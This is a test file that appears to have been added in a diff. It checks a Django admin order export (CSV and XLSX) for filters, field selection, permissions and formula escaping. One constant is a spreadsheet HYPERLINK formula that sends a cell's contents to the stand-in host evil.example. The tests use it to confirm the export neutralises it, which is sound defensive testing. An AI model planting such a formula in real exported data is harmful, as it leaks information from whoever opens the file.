@@ -1,0 +1,159 @@
+"""Export of orders at django-import-export's URL: filters, formats, escaping, permissions."""
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from django.http import FileResponse, StreamingHttpResponse
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from orders.models import Customer, Order, Product
+
+pytestmark = pytest.mark.django_db
+
+EXPORT_URL = "/admin/orders/order/export/"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'
+CSV_FORMAT, XLSX_FORMAT = "0", "1"  # positions in OrderAdmin.export_formats
+
+
+def order_make(order_id: str, *, customer_id: str = "C1", order_date: date = date(2024, 1, 10), price="12.90"):
+    return Order.objects.create(
+        order_id=order_id,
+        customer=Customer.objects.get_or_create(customer_id=customer_id)[0],
+        product=Product.objects.get_or_create(product_id="P1")[0],
+        quantity=2,
+        unit_price=Decimal(price),
+        order_date=order_date,
+        source_file="sales_data_2024-01-10.csv",
+        source_line=int(order_id) - 999,
+        source_business_date=date(2024, 1, 10),
+    )
+
+
+def export(client, file_format: str, query: str = "", **fields):
+    data = {"format": file_format, "resource": "0"}
+    for name in ("order_id", "customer_id", "product_id", "quantity", "unit_price", "order_date",
+                 "source_file", "source_line", "source_business_date"):
+        if fields.get(name, True):
+            data[f"orderresource_{name}"] = "on"
+    return client.post(EXPORT_URL + query, data)
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert isinstance(response, StreamingHttpResponse)
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_export_url_is_django_import_exports_and_the_order_list_links_to_it_with_its_filters(admin_client):
+    order_make("1001")
+
+    page = admin_client.get(reverse("admin:orders_order_changelist") + "?order_date__year=2024").content.decode()
+
+    assert reverse("admin:orders_order_export") == EXPORT_URL
+    assert f'href="{EXPORT_URL}?order_date__year=2024"' in page
+    form = admin_client.get(EXPORT_URL).content.decode()
+    assert ">csv<" in form and ">xlsx<" in form
+
+
+def test_csv_export_streams_every_order_with_sales_file_columns(admin_client):
+    order_make("1001")
+    order_make("1002", customer_id="00712", price="5.00")
+
+    response = export(admin_client, CSV_FORMAT)
+
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert 'attachment; filename="Order-' in response["Content-Disposition"]
+    rows = csv_rows(response)
+    assert rows[0] == [
+        "order_id", "customer_id", "product_id", "quantity", "unit_price", "order_date",
+        "source_file", "source_line", "source_business_date",
+    ]
+    assert sorted(rows[1:]) == [
+        ["1001", "C1", "P1", "2", "12.90", "2024-01-10", "sales_data_2024-01-10.csv", "2", "2024-01-10"],
+        ["1002", "00712", "P1", "2", "5.00", "2024-01-10", "sales_data_2024-01-10.csv", "3", "2024-01-10"],
+    ]
+
+
+def test_export_applies_the_order_lists_current_filters_and_search(admin_client):
+    order_make("1001", order_date=date(2024, 1, 10))
+    order_make("1002", order_date=date(2024, 2, 10))
+    order_make("1003", order_date=date(2024, 2, 11), customer_id="C9")
+
+    by_month = csv_rows(export(admin_client, CSV_FORMAT, "?order_date__month=2&order_date__year=2024"))
+    by_search = csv_rows(export(admin_client, CSV_FORMAT, "?q=C9"))
+
+    assert sorted(row[0] for row in by_month[1:]) == ["1002", "1003"]
+    assert [row[0] for row in by_search[1:]] == ["1003"]
+
+
+def test_export_writes_only_the_fields_ticked_on_the_form(admin_client):
+    order_make("1001")
+
+    rows = csv_rows(export(admin_client, CSV_FORMAT, source_file=False, source_line=False, source_business_date=False))
+
+    assert rows == [
+        ["order_id", "customer_id", "product_id", "quantity", "unit_price", "order_date"],
+        ["1001", "C1", "P1", "2", "12.90", "2024-01-10"],
+    ]
+
+
+def test_csv_export_escapes_a_hyperlink_formula_in_a_customer_id(admin_client):
+    order_make("1001", customer_id=HYPERLINK)
+
+    rows = csv_rows(export(admin_client, CSV_FORMAT))
+
+    assert rows[1][1] == HYPERLINK[1:]
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+
+
+def test_xlsx_export_is_a_file_whose_customer_cell_is_text_not_a_formula(admin_client):
+    order_make("1001", customer_id=HYPERLINK)
+    order_make("1002")
+
+    response = export(admin_client, XLSX_FORMAT, "?q=1001")
+
+    assert response.status_code == 200 and isinstance(response, FileResponse)
+    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    assert ".xlsx" in response["Content-Disposition"]
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    assert sheet.max_row == 2  # the search kept one order
+    assert sheet["A2"].value == "1001"
+    assert sheet["B2"].value == HYPERLINK[1:] and sheet["B2"].data_type == "s"
+    assert sheet["E2"].number_format == "0.00"
+
+
+def test_export_form_errors_are_shown_not_a_file(admin_client):
+    response = admin_client.post(EXPORT_URL, {"format": "", "resource": "0"})
+
+    assert response.status_code == 200
+    assert "This field is required." in response.content.decode()
+
+
+def test_sales_staff_can_export(client, group_user):
+    order_make("1001")
+    client.force_login(group_user("Sales staff"))
+
+    assert client.get(EXPORT_URL).status_code == 200
+    assert [row[0] for row in csv_rows(export(client, CSV_FORMAT))] == ["order_id", "1001"]
+    assert EXPORT_URL in client.get(reverse("admin:orders_order_changelist")).content.decode()
+
+
+def test_analysts_and_staff_without_the_export_permission_get_403(client, group_user, django_user_model):
+    order_make("1001")
+    client.force_login(group_user("Analysts"))
+
+    assert client.get(EXPORT_URL).status_code == 403
+    assert export(client, CSV_FORMAT).status_code == 403
+    # They still see the order list, without the export link.
+    page = client.get(reverse("admin:orders_order_changelist"))
+    assert page.status_code == 200 and EXPORT_URL not in page.content.decode()
+
+
+def test_export_needs_a_signed_in_staff_user(client):
+    response = client.get(EXPORT_URL)
+
+    assert response.status_code == 302 and "/admin/login/" in response["Location"]
